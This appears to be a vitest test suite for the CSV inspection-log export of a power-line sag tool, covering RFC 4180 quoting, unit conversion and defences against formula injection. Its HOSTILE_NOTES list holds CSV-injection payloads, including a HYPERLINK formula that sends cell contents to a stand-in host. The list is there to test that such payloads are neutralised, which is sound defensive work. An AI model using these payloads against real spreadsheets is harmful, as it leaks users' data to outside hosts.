// The CSV inspection log read back by papaparse, a general-purpose CSV parser from the npm registry.
// Format rules: RFC 4180 section 2 (CRLF record ends, quoting and doubled quotes). Formula neutralising: OWASP
// "CSV Injection" and OWASP ASVS 5.0 requirement 1.2.10 (cells starting with = + - @ tab CR NUL).
import fc from 'fast-check';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import {
  CSV_BYTE_ORDER_MARK,
  FORMULA_TRIGGERS,
  LOG_DECIMALS,
  csvField,
  csvNumber,
  fromSI,
  inspectionLogHeader,
  restoreNeutralisedText,
  writeCsv,
  writeInspectionLog,
  type ReadingRecord,
  type UnitSystem,
} from '../../../core';
import { expectClose } from '../../helpers/expect-close';
import { fixtureLine, fixtureLogInput, fixtureResult } from './line-fixture';

/** Parses CSV text as a spreadsheet-independent consumer would: auto-detected delimiter and line ends. */
function parse(text: string): string[][] {
  const result = Papa.parse<string[]>(text, { header: false, skipEmptyLines: true });
  expect(result.errors).toStrictEqual([]);
  return result.data;
}

/** Notes that try to break the file or run as formulas. */
const HOSTILE_NOTES = [
  '=HYPERLINK("http://example.invalid/?q="&A1,"click")',
  '+1',
  '-2+3',
  '@SUM(A1:A9)',
  '\tindented with a tab',
  '\rstarts with a carriage return',
  'comma, "quote" and\r\nnew line',
  'Łódź–Süd 日本 — Zoë',
  "'already quoted",
  "'=looks neutralised already",
  '\0NUL first',
  '',
];

describe('RFC 4180 fields and records', () => {
  it('quotes fields with a quote, comma, CR or LF and doubles inner quotes (RFC 4180 sections 2.6, 2.7)', () => {
    expect(csvField('plain')).toBe('plain');
    expect(csvField('a,b')).toBe('"a,b"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField('two\nlines')).toBe('"two\nlines"');
    expect(csvField('cr\rhere')).toBe('"cr\rhere"');
    expect(csvField(null)).toBe('');
  });

  it('ends every record, the last included, with CRLF (RFC 4180 sections 2.1, 2.2)', () => {
    const text = writeCsv(
      ['h1', 'h2'],
      [
        ['a', csvNumber(1.5, 2)],
        ['b', null],
      ],
      { byteOrderMark: false },
    );
    expect(text).toBe('h1,h2\r\na,1.50\r\nb,\r\n');
  });

  it('neutralises text that a spreadsheet would run as a formula, and only text (OWASP CSV Injection)', () => {
    for (const trigger of FORMULA_TRIGGERS) {
      const field = csvField(`${trigger}1+1`);
      expect(field.replace(/^"/, '').startsWith("'"), JSON.stringify(trigger)).toBe(true);
    }
    expect(csvField('1+1')).toBe('1+1');
    // Numbers we compute are written as numbers, sign and all, so a spreadsheet can use them.
    expect(csvField(csvNumber(-0.125, 3))).toBe('-0.125');
    expect(csvField(csvNumber(-0.0001, 3))).toBe('0.000');
    expect(csvField(csvNumber(Number.NaN, 3))).toBe('');
  });

  it('starts with a UTF-8 byte-order mark by default (for Excel) and not when switched off', () => {
    expect(writeCsv(['a'], []).startsWith(CSV_BYTE_ORDER_MARK)).toBe(true);
    expect(writeCsv(['a'], [], { byteOrderMark: false }).startsWith(CSV_BYTE_ORDER_MARK)).toBe(false);
  });
});

describe('inspection log round trip through papaparse', () => {
  const records = fixtureLine({ spans: 6, notes: HOSTILE_NOTES });
  const input = fixtureLogInput(records);
  const text = writeInspectionLog(input);
  const [header, ...rows] = parse(text);
  const column = (name: string): number => {
    const index = header?.findIndex((cell) => cell.startsWith(name)) ?? -1;
    expect(index, name).toBeGreaterThanOrEqual(0);
    return index;
  };
  const byId = new Map<string, ReadingRecord>(records.reading.map((reading) => [reading.id, reading]));

  it('has one row per reading and the header with metric units', () => {
    expect(rows).toHaveLength(records.reading.length);
    expect(header).toStrictEqual(inspectionLogHeader('metric'));
    expect(header).toContain('Horizontal tension (kN)');
    expect(text.startsWith(CSV_BYTE_ORDER_MARK)).toBe(true);
    expect(text.endsWith('\r\n')).toBe(true);
  });

  it('gives back every text cell exactly (non-ASCII, quotes, commas, line breaks, formula-like notes)', () => {
    const notes = column('Notes');
    const inspector = column('Inspector');
    const reason = column('Reason');
    const id = column('Reading id');
    const seenNotes = new Set<string>();
    for (const row of rows) {
      const reading = byId.get(row[id] ?? '');
      expect(reading).toBeDefined();
      if (!reading) continue;
      expect(row[0]).toBe('Łódź–Süd feeder 日本');
      expect(restoreNeutralisedText(row[notes] ?? '')).toBe(reading.notes ?? '');
      expect(restoreNeutralisedText(row[inspector] ?? '')).toBe(reading.inspector);
      expect(row[reason]).toBe(fixtureResult(reading).verdictReason);
      seenNotes.add(reading.notes ?? '');
    }
    expect([...seenNotes].sort()).toStrictEqual([...HOSTILE_NOTES].sort());
  });

  it('leaves no text cell starting with a formula trigger; number cells parse as numbers', () => {
    const numeric = new Set(
      header?.flatMap((name, index) => (/\((kN|m|°C|%|°)\)$/.test(name) ? [index] : [])),
    );
    for (const row of rows) {
      row.forEach((cell, index) => {
        if (numeric.has(index)) {
          if (cell !== '') expect(Number.isFinite(Number(cell)), `${header?.[index]}: ${cell}`).toBe(true);
        } else {
          expect(
            FORMULA_TRIGGERS.includes(cell.charAt(0)),
            `${header?.[index]}: ${JSON.stringify(cell)}`,
          ).toBe(false);
        }
      });
    }
  });

  it('numbers read back equal the stored values to half the last printed digit (metric)', () => {
    checkNumbers(rows, column, byId, 'metric');
  });

  it('numbers read back equal the stored values in US units too (ft, lbf, °F headers)', () => {
    const us = fixtureLine({ spans: 4, unitSystem: 'us' });
    const [usHeader, ...usRows] = parse(writeInspectionLog(fixtureLogInput(us)));
    expect(usHeader).toContain('Horizontal tension (lbf)');
    expect(usHeader).toContain('Sag (ft)');
    expect(usHeader).toContain('Conductor temperature (°F)');
    const usColumn = (name: string): number => usHeader?.findIndex((cell) => cell.startsWith(name)) ?? -1;
    checkNumbers(usRows, usColumn, new Map(us.reading.map((reading) => [reading.id, reading])), 'us');
  });

  it('papaparse drops the byte-order mark, so the first header cell reads "Line"', () => {
    expect(header?.[0]).toBe('Line');
  });
});

function checkNumbers(
  rows: string[][],
  column: (name: string) => number,
  byId: Map<string, ReadingRecord>,
  system: UnitSystem,
): void {
  const id = column('Reading id');
  const half = (decimals: number): number => 0.5 * 10 ** -decimals + 1e-12;
  for (const row of rows) {
    const reading = byId.get(row[id] ?? '');
    if (!reading) throw new Error('row without a known reading id');
    const result = fixtureResult(reading);
    const read = (name: string): number => Number(row[column(name)]);
    const near = (name: string, expected: number, decimals: number): void => {
      const got = read(name);
      expect(Math.abs(got - expected) <= half(decimals), `${name}: got ${got}, stored ${expected}`).toBe(
        true,
      );
    };
    near(
      'Horizontal tension',
      fromSI(result.horizontalTension ?? 0, 'tension', system),
      LOG_DECIMALS.tension[system],
    );
    near('Sag (', fromSI(result.sag ?? 0, 'length', system), LOG_DECIMALS.length[system]);
    near('Design sag', fromSI(result.designSag ?? 0, 'length', system), LOG_DECIMALS.length[system]);
    near('Sag deviation', fromSI(result.sagDeviation ?? 0, 'length', system), LOG_DECIMALS.length[system]);
    near(
      'Clearance margin',
      fromSI(result.clearanceMargin ?? 0, 'length', system),
      LOG_DECIMALS.length[system],
    );
    near('Rated strength used', result.percentOfRatedStrength ?? 0, LOG_DECIMALS.percent[system]);
    near('Conductor temperature', fromSI(reading.conductorTemperature, 'temperature', system), 1);
    near('Latitude', reading.location?.latitude ?? 0, LOG_DECIMALS.degrees[system]);
    near('Longitude', reading.location?.longitude ?? 0, LOG_DECIMALS.degrees[system]);
    // Back to SI: the tension a spreadsheet reads, converted with the exact factor, is the stored N to < 1 N.
    // (1 lbf = 4.4482216152605 N exactly, NIST SP 811 appendix B; 0.05 lbf ≈ 0.22 N; metric 0.0005 kN = 0.5 N.)
    const tensionSI = read('Horizontal tension') * (system === 'us' ? 4.4482216152605 : 1000);
    expectClose(tensionSI, result.horizontalTension ?? 0, 1e-4, 'tension back in N');
  }
}

describe('inspection log rows', () => {
  it('leaves out deleted readings, writes times in UTC and marks unsolved readings with the reason', () => {
    const records = fixtureLine({ spans: 2 });
    const [first, second] = records.reading;
    if (!first || !second) throw new Error('fixture without readings');
    first.deleted = true;
    second.takenAt = '2026-05-14T11:15:00+02:00';
    const input = {
      ...fixtureLogInput(records),
      resultFor: ({ reading }: { reading: ReadingRecord }) =>
        reading.id === second.id ? { error: 'The sag must be greater than zero.' } : fixtureResult(reading),
    };
    const [header, ...rows] = parse(writeInspectionLog(input, { byteOrderMark: false }));
    const at = (name: string): number => header?.indexOf(name) ?? -1;
    expect(rows).toHaveLength(records.reading.length - 1);
    expect(rows.some((row) => row[at('Reading id')] === first.id)).toBe(false);
    const row = rows.find((cells) => cells[at('Reading id')] === second.id);
    expect(row?.[at('Taken at (UTC)')]).toBe('2026-05-14T09:15:00.000Z');
    expect(row?.[at('Verdict')]).toBe('Not solved');
    expect(row?.[at('Reason')]).toBe('The sag must be greater than zero.');
    expect(row?.[at('Horizontal tension (kN)')]).toBe('');
  });

  it('writes the raw readings in words in the line’s units', () => {
    const records = fixtureLine({ spans: 2, unitSystem: 'us' });
    const [header, ...rows] = parse(writeInspectionLog(fixtureLogInput(records)));
    const readings = rows.map((row) => row[header?.indexOf('Readings') ?? -1]);
    // 1.2345 m / 0.3048 m per ft = 4.0502 ft (1 ft = 0.3048 m exactly, NIST SP 811); 0.0375 rad = 2.1486°.
    expect(readings).toContain('sag 4.050 ft');
    expect(readings).toContain('instrument drop 8.202 ft; angle 2.1486°');
    expect(readings).toContain('3 returns in 4.56 s');
  });
});

describe('any text survives the round trip (fast-check, fixed seed)', () => {
  it('writeCsv then papaparse returns every string, once neutralising is undone', () => {
    fc.assert(
      fc.property(
        fc.array(fc.array(fc.string({ unit: 'grapheme', maxLength: 12 }), { minLength: 2, maxLength: 4 }), {
          minLength: 1,
          maxLength: 5,
        }),
        (table) => {
          const width = Math.max(...table.map((row) => row.length));
          const header = Array.from({ length: width }, (_, k) => `c${k}`);
          const padded = table.map((row) => [...row, ...Array<string>(width - row.length).fill('')]);
          const text = writeCsv(header, padded);
          const parsed = Papa.parse<string[]>(text, { header: false, delimiter: ',', newline: '\r\n' });
          const rows = parsed.data.filter(
            (row, index) => !(index === parsed.data.length - 1 && row.length === 1),
          );
          expect(rows[0]).toStrictEqual(header);
          expect(rows.slice(1).map((row) => row.map(restoreNeutralisedText))).toStrictEqual(padded);
        },
      ),
      { seed: 20260514, numRuns: 300 },
    );
  });
});
